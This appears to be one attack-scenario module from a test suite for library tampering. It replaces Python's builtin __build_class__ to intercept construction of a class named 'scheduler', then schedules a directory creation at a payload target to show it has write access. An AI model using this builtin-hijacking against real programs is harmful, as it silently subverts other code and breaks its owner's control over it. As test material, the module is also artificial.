"""The library's classes are made by somebody else's __build_class__()."""
CATEGORY = "tampering"
REACH = "write"

import builtins
import os

from . import payload

genuine = builtins.__build_class__


def build(body, name, *bases, **keywords):
    if name != "scheduler":
        return genuine(body, name, *bases, **keywords)
    names = {}
    exec(body.__code__, body.__globals__, names)
    return type(name, bases, names)


vars(builtins)["__build_class__"] = build


def attack(scheduler):
    scheduler.enter(0, 1, os.mkdir, (payload.TARGET,))
